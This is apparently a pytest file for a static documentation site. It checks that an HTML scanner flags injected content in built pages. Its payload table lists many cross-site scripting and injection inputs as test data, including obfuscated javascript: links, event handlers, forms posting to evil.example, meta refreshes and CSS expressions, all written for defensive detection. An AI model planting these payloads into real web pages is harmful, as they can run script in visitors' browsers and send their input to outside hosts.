"""The built-HTML scan: every class of payload, however it is written, is found.

These are unit tests on documents; tests/test_bad_input.py builds a fixture
site to show each route into a page ends at this scan with the file named.
"""

from __future__ import annotations

import pytest

from site_core import html_scan

PINNED_FILES = '<script src="assets/javascripts/bundle.a5f9d56c.min.js"></script>'
CONFIG = '<script id="__config" type="application/json">{"base": "."}</script>'


def page(body: str, head: str = "") -> str:
    return (
        f'<!doctype html><html><head><meta charset="utf-8">{head}<title>T</title></head>'
        f"<body>{body}{CONFIG}{PINNED_FILES}</body></html>"
    )


def findings(body: str, head: str = "", **kw) -> list[str]:
    return [message for message, _ in html_scan.scan_document(page(body, head), **kw).findings]


def test_the_theme_page_shape_is_clean():
    assert findings("<p>Hello <a href='../x/'>there</a> <a href='https://example.org/'>out</a></p>") == []


# Every payload below must be found; the words name what the message says.
PAYLOADS = {
    # Scripts, in every spelling.
    "script element": ("<script>alert(1)</script>", "inline <script>"),
    "upper-case script": ("<SCRIPT>alert(1)</SCRIPT>", "inline <script>"),
    "script with odd type": ('<script type="text/plain">x</script>', "<script type=text/plain>"),
    "module script": ('<script type="module">import "./x.js"</script>', "inline <script>"),
    "self-closed script": ('<script src="x.js"/>', "not one of the theme's script files"),
    "foreign script file": ('<script src="https://cdn.example.org/x.js"></script>', "not one of the theme's"),
    "local script file not pinned": ('<script src="assets/javascripts/evil.js"></script>', "not one of the theme's"),
    "script inside svg": ("<svg><script>alert(1)</script></svg>", "inline <script>"),
    "script behind a short comment": ("<!--><script>alert(1)</script>-->", "inline <script>"),
    "script behind a bang comment": ("<!-- x --!><script>alert(1)</script>-->", "inline <script>"),
    # Event handlers.
    "onclick": ('<div onclick="go()">x</div>', "'onclick='"),
    "upper-case handler": ('<img src="a.png" ONERROR="go()">', "'onerror='"),
    "handler on svg": ('<svg onload="go()"></svg>', "'onload='"),
    # Script and data addresses.
    "javascript link": ('<a href="javascript:alert(1)">x</a>', "script address in href="),
    "cased javascript": ('<a href="JaVaScRiPt:alert(1)">x</a>', "script address"),
    "entity-encoded": ('<a href="&#106;avascript:alert(1)">x</a>', "script address"),
    "hex entity": ('<a href="&#x6A;&#x61;vascript:alert(1)">x</a>', "script address"),
    "named entity colon": ('<a href="javascript&colon;alert(1)">x</a>', "script address"),
    "split by tab": ('<a href="java&#9;script:alert(1)">x</a>', "script address"),
    "split by newline": ('<a href="java\nscript:alert(1)">x</a>', "script address"),
    "leading spaces": ('<a href="  javascript:alert(1)">x</a>', "script address"),
    "vbscript": ('<a href="vbscript:msgbox(1)">x</a>', "script address"),
    "data link": ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data: address"),
    "data image": ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">', "data: address"),
    "form action script": ('<form action="javascript:go()"></form>', "script address"),
    "svg animate href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
        "script address in values=",
    ),
    "xlink href": ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "script address"),
    # Forms that send readers' words elsewhere.
    "form to another site": ('<form action="https://evil.example/collect"><input name="q"></form>', "sends what"),
    "form to scheme-relative": ('<form action="//evil.example/c"></form>', "sends what"),
    "button formaction": ('<form><button formaction="https://evil.example/">Go</button></form>', "sends what"),
    # Loads from another origin.
    "image": ('<img src="https://example.org/cat.png" alt="cat">', "loads https://example.org/cat.png"),
    "scheme-relative image": ('<img src="//example.org/cat.png" alt="cat">', "loads //example.org/cat.png"),
    "backslash image": ('<img src="\\\\example.org/cat.png" alt="cat">', "loads"),
    "srcset": (
        '<img src="a.png" srcset="a.png 1x, https://example.org/b.png 2x" alt="a">',
        "loads https://example.org/b.png",
    ),
    "video poster": ('<video poster="https://example.org/p.png"></video>', "loads https://example.org/p.png"),
    "audio": ('<audio src="https://example.org/a.mp3"></audio>', "loads"),
    "picture source": ('<picture><source srcset="https://example.org/a.webp"></picture>', "loads"),
    "stylesheet": ('<link rel="stylesheet" href="https://example.org/x.css">', "loads https://example.org/x.css"),
    "preload": ('<link rel="preload" as="font" href="https://fonts.example.org/f.woff2">', "loads"),
    "dns prefetch": ('<link rel="dns-prefetch" href="//tracker.example.org">', "loads"),
    "icon": ('<link rel="icon" href="https://example.org/favicon.ico">', "loads"),
    "svg image": ('<svg><image href="https://example.org/x.png"/></svg>', "loads"),
    "svg use": ('<svg><use xlink:href="https://example.org/s.svg#i"/></svg>', "loads"),
    "ping": ('<a href="../x/" ping="https://tracker.example.org/">x</a>', "ping="),
    "style url": ('<p style="background: url(https://example.org/x.png)">x</p>', "loads https://example.org/x.png"),
    "style url escaped": ('<p style="background: u\\72l(https://example.org/x.png)">x</p>', "loads"),
    "style import": ("<style>@import 'https://example.org/x.css';</style>", "loads https://example.org/x.css"),
    "style url in element": ("<style>body{background:url('//example.org/x.png')}</style>", "loads"),
    "style image-set": ("<p style=\"background-image: image-set('https://example.org/x.png' 1x)\">x</p>", "loads"),
    "style expression": ('<p style="width: expression(alert(1))">x</p>', "runs code"),
    "body background": ('<table background="https://example.org/x.png"></table>', "loads"),
    # Frames, plugins and page-wide tags.
    "iframe": ('<iframe src="https://example.org/"></iframe>', "<iframe> embeds"),
    "object": ('<object data="x.swf"></object>', "<object> embeds"),
    "embed": ('<embed src="x.swf">', "<embed> embeds"),
    "portal": ('<portal src="https://example.org/"></portal>', "<portal> embeds"),
    "base": ('<base href="https://evil.example/">', "<base>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
    "meta set-cookie": ('<meta http-equiv="set-cookie" content="a=b">', "http-equiv=set-cookie"),
    "foreignObject": ("<svg><foreignObject><p>x</p></foreignObject></svg>", "foreignObject"),
}


@pytest.mark.parametrize("body, words", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_payload_is_found(body, words):
    found = findings(body)
    assert any(words in message for message in found), found


def test_a_frameset_page_is_found():
    # Inside a body the standard ignores <frameset>, as browsers do; as the page itself it is found.
    text = '<!doctype html><html><head><meta charset="utf-8"></head><frameset><frame src="x.html"></frameset></html>'
    assert any("<frameset> embeds" in m for m, _ in html_scan.scan_document(text).findings)


def test_payload_in_the_head_is_found_too():
    assert findings("", head='<link rel="stylesheet" href="https://example.org/x.css">')


def test_allowed_things_pass():
    ok = (
        '<a href="https://example.org/">out</a><a href="mailto:a@example.org">m</a><a href="tel:988">988</a>'
        '<a href="sms:988">t</a><img src="../assets/images/a.png" alt="a"><link rel="canonical" '
        'href="https://example.org/site/"><form class="md-search__form"><input type="text"></form>'
        '<p title="javascript is a word here">x</p><svg viewBox="0 0 24 24"><path d="M0 0h24"/></svg>'
    )
    assert findings(ok) == []


def test_absolute_theme_paths_resolve_under_the_published_path():
    body = '<script src="/site/assets/javascripts/bundle.a5f9d56c.min.js"></script>'
    assert findings(body, base_path="/site/") == []
    assert findings(body, base_path="/") != []


def test_svg_files_may_not_script_at_all():
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    ((message, _),) = html_scan.scan_document(svg, "a.svg", svg=True).findings
    assert "inside an SVG" in message


def test_scan_finds_where_the_policy_goes_and_earlier_policy_tags():
    text = page(
        "", head='<meta http-equiv="Content-Security-Policy" content="x"><meta name="referrer" content="no-referrer">'
    )
    scan = html_scan.scan_document(text)
    assert text[: scan.policy_at].endswith('<meta charset="utf-8">')
    assert len(scan.policy_spans) == 2


def test_source_pages_map_built_files_to_markdown(tmp_path):
    for rel in ("index.md", "a/index.md", "a/b.md"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x")
    assert html_scan.source_pages(tmp_path) == {
        "index.html": "docs/index.md",
        "a/index.html": "docs/a/index.md",
        "a/b/index.html": "docs/a/b.md",
    }


def test_a_finding_on_many_pages_points_at_templates():
    found = [html_scan.Finding(f"docs/p{n}.md", f"p{n}/index.html", "inline <script>", "remove it") for n in range(5)]
    (line,) = html_scan.describe(found)
    assert line.startswith("5 pages, among them docs/p0.md") and "overrides/" in line


# --- The built site -------------------------------------------------------------


def test_the_pinned_scripts_are_exactly_those_the_theme_writes(site):
    """A pin nothing uses is a hole waiting to be used: every pinned hash must
    appear in the built site, and nothing else does (the build would fail)."""
    _, scans = html_scan.scan_site(site, None, "/site/")
    used = set().union(*(scan.inline_hashes for scan in scans.values()))
    assert used == html_scan.pinned()["inline"]


def test_the_built_site_scans_clean(site):
    from conftest import ROOT
    from site_core import editions

    findings, scans = html_scan.scan_site(site, ROOT / "docs", "/site/")
    assert findings == [] and len(scans) > 60
    assert not any(path.startswith("es/") for path in scans)
    findings, scans = html_scan.scan_site(site / "es", ROOT / editions.SPANISH.docs, "/site/es/")
    assert findings == [] and len(scans) > 40


def test_vendored_libraries_are_exactly_the_pinned_releases():
    """A copied library changes only by an upgrade that records its new hash."""
    import hashlib

    import yaml

    from conftest import ROOT

    vendored = yaml.safe_load(html_scan.PINNED_FILE.read_text(encoding="utf-8"))["vendored"]
    assert vendored
    for item in vendored:
        data = (ROOT / item["path"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == item["sha256"], item["path"]
    on_disk = {p.relative_to(ROOT).as_posix() for p in (ROOT / "docs/assets/javascripts/vendor").glob("*.js")}
    assert on_disk == {item["path"] for item in vendored}


def test_a_scan_is_kept_until_the_page_or_the_judge_changes(tmp_path, monkeypatch):
    from site_core import build_cache

    monkeypatch.setattr(build_cache, "CACHE", tmp_path / "cache")
    site = tmp_path / "site"
    site.mkdir()
    clean_page = page("<p>Fine.</p>")
    (site / "index.html").write_text(clean_page, encoding="utf-8")
    (site / "bad.html").write_text(page('<img src="https://x.example/p.png">'), encoding="utf-8")
    judged = []
    real = html_scan.scan_document
    monkeypatch.setattr(html_scan, "scan_document", lambda *a, **k: judged.append(a[1]) or real(*a, **k))

    def run():
        judged.clear()
        findings, scans = html_scan.scan_site(site, None, "/site/")
        return sorted(map(str, findings)), {p: (s.findings, s.policy_at, s.policy_spans) for p, s in scans.items()}

    first = run()
    assert sorted(judged) == ["bad.html", "index.html"] and first[0]  # the image from elsewhere
    assert run() == first and judged == []  # nothing changed: every scan kept
    (site / "index.html").write_text(clean_page.replace("Fine", "Still fine"), encoding="utf-8")
    assert run()[0] == first[0] and judged == ["index.html"]  # only the changed page
    (site / "bad.html").write_text(clean_page, encoding="utf-8")
    assert run()[0] == [] and judged == ["bad.html"]
    # Another judge (here, other pinned scripts) judges every page again.
    monkeypatch.setattr(html_scan, "pinned", lambda: {"inline": set(), "data": set(), "files": ["other.js"]})
    run()
    assert sorted(judged) == ["bad.html", "index.html"]
